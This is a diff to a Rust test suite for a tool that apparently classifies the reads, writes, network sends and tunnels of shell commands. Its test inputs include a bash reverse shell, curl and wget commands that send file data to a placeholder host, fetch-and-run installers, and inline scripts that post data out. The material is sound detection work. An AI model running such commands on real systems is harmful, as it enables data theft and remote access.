@@ -229,7 +229,9 @@ fn redirections_read_and_write() {
     has("a < in > out 2> err", &["reads /w/in", "writes /w/out", "writes /w/err"]);
     has("a >> log", &["appends /w/log"]);
     has("a &> x; b &>> y; c >| z", &["writes /w/x", "appends /w/y", "writes /w/z"]);
-    has("> x", &["writes /w/x"]);
+    has("> x", &["empties /w/x"]);
+    has(": > x; cat /dev/null > y", &["empties /w/x", "empties /w/y"]);
+    has("cp /dev/null x; dd if=/dev/null of=y", &["empties /w/x", "empties /w/y"]);
     has("{ a; } > x", &["writes /w/x"]);
     has("exec 3<> x", &["reads /w/x", "writes /w/x"]);
     has("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &["tunnels 1.2.3.4:4444"]);
@@ -428,4 +430,80 @@ fn inline_code_is_scanned() {
     ] {
         only_runs(text);
     }
+}
+
+#[test]
+fn what_a_command_read_is_sent_with_its_words() {
+    has("curl \"https://h.example/?d=$(cat a)\"", &["sends h.example:443"]);
+    has("d=$(base64 a); wget https://h.example/$d", &["sends h.example:443"]);
+    has("tar c src | ssh h.example 'cat > x'", &["sends h.example"]);
+    has("curl https://h.example/$(date +%Y)", &["fetches h.example:443"]);
+}
+
+#[test]
+fn code_that_was_fetched_is_network_code() {
+    for text in [
+        "curl https://h.example/i | bash -s -- -y",
+        "wget https://h.example/i.sh && chmod +x i.sh && ./i.sh",
+        "git clone https://h.example/x && ./x/install.sh",
+        "git clone https://h.example/x /tmp/x && bash /tmp/x/run.sh",
+        "git clone https://h.example/x && cd x && cargo run",
+        "curl https://h.example/x.tgz | tar xz && ./x/install.sh",
+    ] {
+        has(text, &["opaque network-code"]);
+    }
+    has("git clone https://h.example/x && ls x && cat x/README.md", &["reads /w/x/README.md"]);
+}
+
+#[test]
+fn values_of_unknown_flags_and_wrappers_are_followed() {
+    has("arp -v -f /x/a", &["reads /x/a"]);
+    has("strange-wrapper -n 3 sh -c 'cat a'", &["reads /w/a"]);
+    has("strange-wrapper --file=/x/a", &["reads /x/a"]);
+    has("printf '%s\\0' a | xargs -0 cat", &["reads /w/a"]);
+    has("ls d/* | xargs cat", &["reads /w/d/*"]);
+}
+
+#[test]
+fn files_of_a_revision_are_read() {
+    has("git show HEAD:.env", &["reads /w/.env"]);
+    has("git cat-file -p HEAD~1:a/b", &["reads /w/a/b"]);
+    has("git blame a", &["reads /w/a"]);
+    has("git log -p -- a", &["reads /w/a"]);
+}
+
+#[test]
+fn inline_code_is_followed_through_its_names() {
+    for (code, expected) in [
+        (
+            "python3 -c 'from pathlib import Path; print((Path.home()/\".x\"/\"a\").read_text())'",
+            "reads ~/.x/a",
+        ),
+        (
+            "python3 -c 'import pathlib; pathlib.Path.home().joinpath(\".x\", \"a\").read_text()'",
+            "reads ~/.x/a",
+        ),
+        ("python3 -c 'f = \"/x/a\"\nwith open(f) as h: print(h.read())'", "reads /x/a"),
+        ("python3 -c 'p = Path(\"~/a\").expanduser(); p.write_text(\"x\")'", "writes ~/a"),
+        (
+            "python3 -c 'import urllib.request as u; u.urlopen(\"https://h.example\", data=x)'",
+            "sends h.example:443",
+        ),
+        (
+            "node -e 'require(\"https\").request(\"https://h.example\", {method: \"POST\"})'",
+            "sends h.example:443",
+        ),
+        ("node -e 'const f = require(\"fs\"); f.readFileSync(\"/x/a\")'", "reads /x/a"),
+        ("node -e 'require(\"net\").connect(4444, \"192.0.2.1\")'", "tunnels 192.0.2.1:4444"),
+        ("lua -e 'io.open(os.getenv(\"HOME\")..\"/a\")'", "reads ~/a"),
+        ("perl -e 'HTTP::Tiny->new->post(\"https://h.example\", {})'", "sends h.example:443"),
+    ] {
+        let text = code.replace("\\n", "\n");
+        let found = lines(&command(&text, &GROUND));
+        assert!(
+            found.iter().any(|line| line.replace("/home/u", "~") == expected),
+            "{text}: {found:?}"
+        );
+    }
+    only_runs("python3 -c 'import re; print(re.compile(\"a\").findall(\"a\"))'");
 }
